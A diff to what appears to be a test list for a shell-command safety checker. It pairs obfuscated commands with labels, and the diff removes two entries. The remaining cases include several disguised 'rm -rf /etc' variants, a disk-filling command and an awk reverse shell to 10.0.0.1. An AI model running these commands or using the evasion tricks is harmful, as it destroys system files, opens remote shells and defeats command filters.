@@ -83,12 +83,10 @@ SHELL = [
     ("a[0]=rm; a[1]=-rf; a[2]=/etc; ${a[@]}", "delete-outside"),
     ("a[$i]=rm; ${a[@]} -rf /etc", "delete-outside"),
     ("x=rm; x+=' -rf /etc'; $x", "delete-outside"),
-    ("x=RM; ${x,,} -rf /etc", "delete-outside"),
     ("env X='rm -rf /etc' sh -c '$X'", "delete-outside"),
     ("cp /dev/zero big", "resource-exhaustion"),
     ("awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/42\"; s |& getline c}'", "reverse-shell"),
     ("x=axbxc; rm -rf /e${x//[axb]/t}", "delete-outside"),
-    ("x=rmfoo; ${x%foo} -rf /etc", "delete-outside"),
     ("x=foo/rm; ${x##*/} -rf /etc", "delete-outside"),
     ("y=rm; x=y; ${!x} -rf /etc", "delete-outside"),
 ]
